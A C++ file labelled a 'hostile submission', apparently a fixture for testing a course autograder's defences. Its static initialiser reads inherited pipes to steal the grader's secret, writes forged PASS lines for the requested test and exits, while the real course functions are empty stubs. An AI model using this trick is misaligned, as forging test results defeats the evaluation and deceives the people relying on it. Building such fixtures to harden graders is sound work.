// Hostile submission: a static initialiser that reads every inherited pipe for the secret and writes PASS lines for the test in argv, then _exit(0)
#include "course/01_tensors.h"
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <fstream>
#include <string>
#include <unistd.h>

namespace {
int steal() {
  std::ifstream cmdline("/proc/self/cmdline");
  std::string test;
  for (std::string arg; std::getline(cmdline, arg, '\0');) {
    if (arg.rfind("--gtest_filter=", 0) == 0) test = arg.substr(15);
  }
  std::string loot;
  DIR* fds = opendir("/proc/self/fd");
  while (dirent* e = fds != nullptr ? readdir(fds) : nullptr) {
    const int fd = std::atoi(e->d_name);
    if (fd <= 2) continue;
    fcntl(fd, F_SETFL, O_NONBLOCK);
    char buf[256];
    const ssize_t n = read(fd, buf, sizeof buf);
    if (n > 0) loot.append(buf, static_cast<size_t>(n));
  }
  const std::string secret = loot.substr(0, 32);
  const std::string line = secret + " PASS " + test + "\n";
  for (int fd = 3; fd < 1024; ++fd) (void)!write(fd, line.data(), line.size());
  _exit(0);
}
const int kStolen = steal();
}  // namespace

namespace course {
NotebookTensors make_notebook_tensors() { return {}; }
int64_t ndim_from_repr(std::string_view) { return {}; }
int64_t numel_from_shape(tl::IntArrayRef) { return {}; }
tl::Scalar item_by_hand(const tl::Tensor&) { return {}; }
}  // namespace course
